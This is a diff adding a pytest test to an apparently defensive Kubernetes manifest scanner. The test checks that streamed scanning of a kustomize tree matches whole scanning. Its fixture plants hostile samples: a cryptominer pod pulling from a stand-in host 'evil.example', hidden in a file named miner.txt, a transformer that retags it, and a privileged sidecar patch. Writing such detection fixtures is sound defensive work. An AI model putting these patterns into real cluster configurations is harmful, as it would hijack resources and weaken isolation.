@@ -155,3 +155,61 @@ def test_a_scan_holds_its_findings_not_every_fact(tmp_path: Path) -> None:
     assert len(measured) >= 3
     # every file's facts were made; at no point were more than a few files' worth alive
     assert max(measured) < 40, measured
+
+
+KUSTOMIZE_TREE = {
+    "base/kustomization.yaml": "resources: [deploy.yaml, miner.txt]\n",
+    "base/deploy.yaml": (
+        "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: web}\nspec:\n"
+        "  template:\n    spec:\n      containers:\n"
+        "        - {name: web, image: docker.io/library/nginx:latest}\n"
+    ),
+    "base/miner.txt": (
+        "apiVersion: v1\nkind: Pod\nmetadata: {name: miner}\nspec:\n"
+        "  containers:\n    - {name: m, image: evil.example/miner:latest}\n"
+    ),
+    "comp/kustomization.yaml": (
+        "apiVersion: kustomize.config.k8s.io/v1alpha1\nkind: Component\n"
+        "images:\n  - {name: docker.io/library/nginx, newTag: '1.27'}\n"
+    ),
+    "overlay/kustomization.yaml": (
+        "resources: [../base]\ncomponents: [../comp]\n"
+        "transformers: [tags.yaml]\npatches:\n  - path: patch.yaml\n"
+        "labels:\n  - pairs: {team: web}\n"
+    ),
+    "overlay/tags.yaml": (
+        "apiVersion: builtin\nkind: ImageTagTransformer\nmetadata: {name: t}\n"
+        "imageTag: {name: evil.example/miner, newTag: v2}\n"
+    ),
+    "overlay/patch.yaml": (
+        "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: web}\nspec:\n"
+        "  template:\n    spec:\n      containers:\n"
+        "        - name: side\n"
+        "          image: quay.io/x/side:latest\n"
+        "          securityContext: {privileged: true}\n"
+    ),
+    "vendor/app/kustomization.yaml": "resources: [pod.yaml]\n",
+    "vendor/app/pod.yaml": (
+        "apiVersion: v1\nkind: Pod\nmetadata: {name: v}\nspec:\n"
+        "  containers:\n    - {name: v, image: nginx}\n"
+    ),
+    "apps/kustomization.yaml": "resources: [../overlay, ../vendor/app/kustomization.yaml]\n",
+    "fragment.yaml": (
+        "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: frag}\nspec:\n"
+        "  template:\n    spec:\n      containers:\n        - {name: f, image: nginx}\n"
+    ),
+}
+
+
+def test_kustomize_effects_known_before_other_files_are_judged(tmp_path: Path) -> None:
+    """Image overrides from `images:`, a component and a transformer file, labels, a patch,
+    a resource with a name kubectl does not read as YAML and a fragment: judged as when every
+    fact was judged at the end, the kustomizations' facts kept only in the small form the
+    graph reads."""
+    for rel, text in KUSTOMIZE_TREE.items():
+        (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
+        (tmp_path / rel).write_text(text)
+    whole, streamed = _both(tmp_path)
+    assert streamed == whole
+    paths = {f[0] for f in whole[0]}
+    assert {"base/deploy.yaml", "base/miner.txt", "overlay/patch.yaml"} <= paths
